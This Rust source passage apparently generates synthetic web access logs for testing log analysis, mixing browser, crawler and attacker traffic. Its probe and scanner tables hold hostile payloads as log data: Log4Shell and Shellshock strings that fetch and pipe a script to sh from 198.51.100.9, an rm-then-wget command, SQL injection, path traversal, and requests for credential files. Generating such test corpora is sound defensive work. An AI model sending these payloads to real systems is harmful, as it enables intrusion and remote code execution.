        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36 Edg/143.0.0.0",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:146.0) Gecko/20100101 Firefox/146.0",
        "Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 15; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Mobile Safari/537.36",
    ];
    const BOTS: [&str; 6] = [
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
        "Mozilla/5.0 (compatible; DuckDuckBot-Https/1.1; https://duckduckgo.com/duckduckbot)",
        "FreshRSS/1.27.1 (Linux; https://freshrss.org)",
    ];
    const SCANNER_UAS: [&str; 12] = [
        "Mozilla/5.0 zgrab/0.x",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "sqlmap/1.9.11#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:004213)",
        "python-requests/2.32.3",
        "Go-http-client/1.1",
        "curl/8.14.1",
        "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:76.0) Gecko/20100101 Firefox/76.0",
        "${jndi:ldap://198.51.100.9/a}",
        "() { :; }; /bin/bash -c \\\"wget http://198.51.100.9/x.sh -O- | sh\\\"",
    ];
    /// (request line after the method, status, bytes)
    const PROBES: [(&str, &str, u16, u32); 40] = [
        ("GET", "/wp-login.php", 404, 492),
        ("POST", "/xmlrpc.php", 404, 492),
        ("GET", "/wp-admin/setup-config.php", 404, 492),
        ("GET", "/wp-includes/wlwmanifest.xml", 404, 492),
        ("GET", "/.env", 404, 492),
        ("GET", "/.git/config", 404, 492),
        ("GET", "/.aws/credentials", 404, 492),
        ("GET", "/phpmyadmin/index.php", 404, 492),
        ("GET", "/pma/index.php", 404, 492),
        ("GET", "/cgi-bin/luci/;stok=/locale?form=country", 404, 492),
        ("POST", "/boaform/admin/formLogin", 404, 492),
        ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, 492),
        ("GET", "/index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello", 404, 492),
        ("GET", "/?id=1%27%20OR%201=1--", 200, 9737),
        ("GET", "/..%2f..%2f..%2fetc/passwd", 404, 492),
        ("POST", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400, 483),
        ("GET", "/?x=${jndi:ldap://198.51.100.9/a}", 200, 9737),
        ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/jaws;sh+/tmp/jaws", 404, 492),
        ("POST", "/GponForm/diag_Form?images/", 404, 492),
        ("GET", "/HNAP1/", 404, 492),
        ("GET", "/actuator/env", 404, 492),
        ("GET", "/server-status", 403, 475),
        ("GET", "/.htaccess", 403, 475),
        ("GET", "/admin/", 404, 492),
        ("GET", "/login.action", 404, 492),
        ("GET", "/owa/auth/logon.aspx", 404, 492),
        ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 404, 492),
        ("GET", "/config.json", 404, 492),
        ("GET", "/backup.zip", 404, 492),
        ("GET", "/.DS_Store", 404, 492),
        ("GET", "/containers/json", 404, 492),
        ("GET", "/solr/admin/cores?wt=json", 404, 492),
        ("GET", "/cgi-mod/webctl.cgi", 404, 492),
        ("GET", "/wsman/relay.php", 404, 492),
        ("CONNECT", "example.org:443", 405, 529),
        ("GET", "http://example.org/", 404, 492),
        ("GET", "/private/", 401, 712),
        ("GET", "/", 200, 9737),
        ("GET", "/robots.txt", 200, 412),
        ("PROPFIND", "/", 405, 529),
    ];
    const EXTERNAL_REFERERS: [&str; 8] = [
        "-",
        "-",
        "-",
        "https://www.google.com/",
        "https://www.google.com/",
        "https://duckduckgo.com/",
        "https://www.bing.com/",
        "https://news.ycombinator.com/",
    ];

    /// Everything a line is built from, rendered once.
    struct Pools {
        clients: Vec<Vec<u8>>,
        client_ua: Vec<u8>,
        attackers: Vec<Vec<u8>>,
        attacker_ua: Vec<u8>,
        /// (path, size, full URL used as the referer of its assets)
        pages: Vec<(Vec<u8>, u32, Vec<u8>)>,
        assets: Vec<(Vec<u8>, u32)>,
        missing: Vec<Vec<u8>>,
    }

    /// A public-looking IPv4 address (skips private, loopback, CGNAT, multicast...).
    fn public_ipv4(rng: &mut Rng) -> Vec<u8> {
        loop {
            let a = rng.range(1, 224);
            if [10, 100, 127, 169, 172, 192, 198, 203].contains(&a) {
                continue;
            }
            let (b, c, d) = (rng.below(256), rng.below(256), rng.range(1, 255));
            return format!("{a}.{b}.{c}.{d}").into_bytes();
        }
    }

    impl Pools {
        fn new(seed: u64) -> Pools {
            let mut rng = Rng::new(seed ^ 0xB0B);
            let mut clients = Vec::with_capacity(CLIENTS);
            let mut client_ua = Vec::with_capacity(CLIENTS);
            for i in 0..CLIENTS {
                // ~3% of clients speak IPv6.
                if i % 33 == 7 {
                    clients.push(
                        format!(
                            "2001:db8:{:x}:{:x}::{:x}",
                            rng.below(0x10000),
                            rng.below(0x10000),
                            rng.range(1, 0x10000)
                        )
                        .into_bytes(),
                    );
                } else {
                    clients.push(public_ipv4(&mut rng));
                }
                client_ua.push(rng.zipf(BROWSERS.len()) as u8);
            }
            let mut attackers = Vec::with_capacity(ATTACKERS);
            let mut attacker_ua = Vec::with_capacity(ATTACKERS);
            for i in 0..ATTACKERS {
                if i % 40 == 3 {
                    attackers.push(
                        format!("2001:db8:bad:{:x}::{:x}", rng.below(0x10000), rng.range(1, 0x10000)).into_bytes(),
                    );
                } else {
                    attackers.push(public_ipv4(&mut rng));
                }
                attacker_ua.push(rng.below(SCANNER_UAS.len() as u64) as u8);
            }
            let topics = ["rust", "linux", "self-hosting", "backups", "emacs", "networking", "homelab", "security"];
            let mut pages = vec![
                (b"/".to_vec(), 9477u32),
                (b"/blog/".to_vec(), 14872),
                (b"/about/".to_vec(), 6231),
                (b"/projects/".to_vec(), 8120),
                (b"/feed.xml".to_vec(), 48213),
            ];
            for n in 0..400u32 {
                let topic = topics[n as usize % topics.len()];
                let year = 2018 + n / 60;
                let month = 1 + n % 12;
                pages.push((
                    format!("/blog/{year}/{month:02}/notes-on-{topic}-part-{}/", n / 8 + 1).into_bytes(),
                    8_000 + rng.below(30_000) as u32,
                ));
            }
            for topic in topics {
                pages.push((format!("/tags/{topic}/").into_bytes(), 6_000 + rng.below(4_000) as u32));
            }
            let pages = pages
                .into_iter()
                .map(|(path, size)| {
                    let mut url = b"https://www.example.com".to_vec();
                    url.extend_from_slice(&path);
                    (path, size, url)
                })
                .collect();
            let mut assets = vec![
                (b"/css/site.css".to_vec(), 6120u32),
                (b"/js/site.js".to_vec(), 2311),
                (b"/img/avatar.png".to_vec(), 18231),
                (b"/fonts/inter-var.woff2".to_vec(), 48256),
                (b"/favicon.ico".to_vec(), 1150),
            ];
            for n in 0..200 {
                assets
                    .push((format!("/img/posts/figure-{n:03}.webp").into_bytes(), 20_000 + rng.below(200_000) as u32));
            }
            let missing = [
                "/apple-touch-icon.png",
                "/apple-touch-icon-precomposed.png",
                "/blog/2017/old-post/",
                "/tags/emacs/",
                "/index.xml",
                "/.well-known/traffic-advice",
            ]
            .iter()
            .map(|p| p.as_bytes().to_vec())
            .collect();
            Pools { clients, client_ua, attackers, attacker_ua, pages, assets, missing }
        }
    }

    fn push_u64(out: &mut Vec<u8>, mut n: u64) {
        let mut digits = [0u8; 20];
        let mut i = digits.len();
        loop {
            i -= 1;
            digits[i] = b'0' + (n % 10) as u8;
            n /= 10;
            if n == 0 {
                break;
            }
        }
        out.extend_from_slice(&digits[i..]);
    }

    /// `[dd/Mon/yyyy:HH:MM:SS +0000] "` re-rendered only when the second changes.
    struct Clock {
        second: i64,
        text: Vec<u8>,
    }

    impl Clock {
        fn stamp(&mut self, second: i64) -> &[u8] {
            if second != self.second {
                self.second = second;
                self.text.clear();
                self.text.extend_from_slice(b" [");
                civil::clf(&mut self.text, second * SEC);
                self.text.extend_from_slice(b"] \"");
            }
            &self.text
        }
    }

    /// Appends one combined-format line (with its newline).
    fn line(out: &mut Vec<u8>, p: &Pools, rng: &mut Rng, stamp: &[u8]) {
        let roll = rng.below(1000);
        if roll < 905 {
            // A browser: 60% assets, 40% pages.
            let client = rng.zipf(CLIENTS);
            out.extend_from_slice(&p.clients[client]);
            out.extend_from_slice(b" - -");
            out.extend_from_slice(stamp);
            let ua = BROWSERS[p.client_ua[client] as usize];
            let page = &p.pages[rng.zipf(p.pages.len())];
            if rng.below(10) < 6 {
                let (path, size) = &p.assets[rng.zipf(p.assets.len())];
                out.extend_from_slice(b"GET ");
                out.extend_from_slice(path);
                if rng.below(10) < 3 {
                    out.extend_from_slice(b" HTTP/1.1\" 304 ");
                    push_u64(out, 180 + rng.below(80));
                } else {
                    out.extend_from_slice(b" HTTP/1.1\" 200 ");
                    push_u64(out, *size as u64 + 250);
                }
                out.extend_from_slice(b" \"");
                out.extend_from_slice(&page.2);
            } else {
                let status_roll = rng.below(100);
                if status_roll < 3 {
                    out.extend_from_slice(b"GET ");
                    out.extend_from_slice(&p.missing[rng.below(p.missing.len() as u64) as usize]);
                    out.extend_from_slice(b" HTTP/1.1\" 404 492 \"");
                } else {
                    out.extend_from_slice(if status_roll < 5 { b"HEAD " } else { b"GET " });
                    out.extend_from_slice(&page.0);
                    if status_roll < 12 {
                        out.extend_from_slice(b" HTTP/1.1\" 304 ");
                        push_u64(out, 180 + rng.below(80));
                    } else {
                        out.extend_from_slice(b" HTTP/2.0\" 200 ");
                        push_u64(out, page.1 as u64 + 260);
                    }
                    out.extend_from_slice(b" \"");
                }
                if rng.below(3) == 0 {
                    out.extend_from_slice(&p.pages[rng.zipf(p.pages.len())].2);
                } else {
                    out.extend_from_slice(
                        EXTERNAL_REFERERS[rng.below(EXTERNAL_REFERERS.len() as u64) as usize].as_bytes(),
                    );
                }
            }
            out.extend_from_slice(b"\" \"");
            out.extend_from_slice(ua.as_bytes());
        } else if roll < 930 {
            // Crawlers and feed readers, from a small pool of addresses.
            let bot = rng.below(BOTS.len() as u64) as usize;
            out.extend_from_slice(&p.clients[CLIENTS - 1 - bot * 17 - rng.below(4) as usize]);
            out.extend_from_slice(b" - -");
            out.extend_from_slice(stamp);
            let page = &p.pages[rng.zipf(p.pages.len())];
            out.extend_from_slice(b"GET ");
            out.extend_from_slice(&page.0);
            out.extend_from_slice(b" HTTP/1.1\" 200 ");
            push_u64(out, page.1 as u64 + 260);
            out.extend_from_slice(b" \"-\" \"");
            out.extend_from_slice(BOTS[bot].as_bytes());
        } else if roll < 940 {
            // The owner in /private/ with basic auth.
            out.extend_from_slice(if roll < 935 { b"192.168.1.10 - alice" } else { b"100.72.14.201 - alice" });
            out.extend_from_slice(stamp);
            out.extend_from_slice(b"GET /private/notes/ HTTP/1.1\" 200 4690 \"-\" \"");
            out.extend_from_slice(BROWSERS[3].as_bytes());
        } else {
            // Attackers: scanners, exploit bots, brute forcers.
            let attacker = rng.zipf(ATTACKERS);
            let (method, path, status, bytes) = PROBES[rng.below(PROBES.len() as u64) as usize];
            out.extend_from_slice(&p.attackers[attacker]);
            if status == 401 {
                out.extend_from_slice(b" - admin");
            } else {
                out.extend_from_slice(b" - -");
            }
            out.extend_from_slice(stamp);
            out.extend_from_slice(method.as_bytes());
            out.push(b' ');
            out.extend_from_slice(path.as_bytes());
            out.extend_from_slice(b" HTTP/1.1\" ");
            push_u64(out, status as u64);
            out.push(b' ');
            push_u64(out, bytes as u64);
            out.extend_from_slice(b" \"-\" \"");
            out.extend_from_slice(SCANNER_UAS[p.attacker_ua[attacker] as usize].as_bytes());
        }
        out.extend_from_slice(b"\"\n");
    }

    type Compressor = (SyncSender<Vec<u8>>, JoinHandle<io::Result<()>>);

    fn spawn_compressor(path: PathBuf) -> io::Result<Compressor> {
        let file = File::create(&path)?;
        let (sender, receiver) = sync_channel::<Vec<u8>>(2);
        let handle = thread::spawn(move || -> io::Result<()> {
            let sink = io::BufWriter::with_capacity(1 << 20, file);
            let mut encoder = flate2::GzBuilder::new().mtime(0).write(sink, flate2::Compression::new(6));
            for chunk in receiver {
                encoder.write_all(&chunk)?;
            }
            encoder.finish()?.flush()
        });
        Ok((sender, handle))
    }

    pub fn run(out: &Path, size: u64, files: u32, gzip: bool, seed: u64) -> io::Result<()> {
        let plain_dir = out.join("plain");
        let gz_dir = out.join("gz");
        fs::create_dir_all(&plain_dir)?;
        if gzip {
            fs::create_dir_all(&gz_dir)?;
        }
        let stamp_path = out.join("knocklog-gen.stamp");
        // A half-written corpus must not look reusable.
        let _ = fs::remove_file(&stamp_path);
        let started = Instant::now();
        let pools = Pools::new(seed);
        let per_file = size.div_ceil(files as u64);
        let newest_day = civil::at(2026, 1, 8, 0, 0, 0) / SEC;
        let (mut total_bytes, mut total_lines) = (0u64, 0u64);
        // Oldest first, so the clock only moves forward.
        for index in (0..files).rev() {
            let name = if index == 0 { "access.log".to_string() } else { format!("access.log.{index}") };
            let day_start = newest_day - index as i64 * (DAY / SEC);
            let mut rng = Rng::new(seed.wrapping_mul(0x9E37_79B9).wrapping_add(index as u64));
            let mut compressor = if gzip { Some(spawn_compressor(gz_dir.join(format!("{name}.gz")))?) } else { None };
            let mut file = File::create(plain_dir.join(&name))?;
            let mut clock = Clock { second: i64::MIN, text: Vec::new() };
            let mut buffer: Vec<u8> = Vec::with_capacity(CHUNK + 4096);
            let mut written = 0u64;
            loop {
                let done = written + buffer.len() as u64;
                if done >= per_file {
                    break;
                }
                let second = day_start + (done as u128 * (DAY / SEC) as u128 / per_file as u128) as i64;
                line(&mut buffer, &pools, &mut rng, clock.stamp(second));
                total_lines += 1;
                if buffer.len() >= CHUNK {
                    written += flush(&mut file, &mut buffer, compressor.as_ref())?;
                }
            }
            written += flush(&mut file, &mut buffer, compressor.as_ref())?;
            total_bytes += written;
            if let Some((sender, handle)) = compressor.take() {
                drop(sender);
                handle.join().map_err(|_| io::Error::other("gzip thread panicked"))??;
            }
        }
        let seconds = started.elapsed().as_secs_f64();
        fs::write(
            &stamp_path,
            format!("size={size} files={files} gzip={gzip} seed={seed} bytes={total_bytes} lines={total_lines}\n"),
        )?;
        eprintln!(
            "knocklog-gen: {} files, {} bytes, {} lines in {:.2} s ({:.0} MB/s){}",
            files,
            total_bytes,
            total_lines,
            seconds,
            total_bytes as f64 / 1e6 / seconds,
            if gzip { ", with gzip copies" } else { "" }
        );
        Ok(())
    }

    /// Writes the buffer to the plain file and hands it to the gzip thread, if any.
    fn flush(file: &mut File, buffer: &mut Vec<u8>, compressor: Option<&Compressor>) -> io::Result<u64> {
        let len = buffer.len() as u64;
        file.write_all(buffer)?;
        match compressor {
            Some((sender, _)) => {
                let full = std::mem::replace(buffer, Vec::with_capacity(CHUNK + 4096));
                sender.send(full).map_err(|_| io::Error::other("gzip thread stopped"))?;
            }
            None => buffer.clear(),
        }
        Ok(len)
    }
}
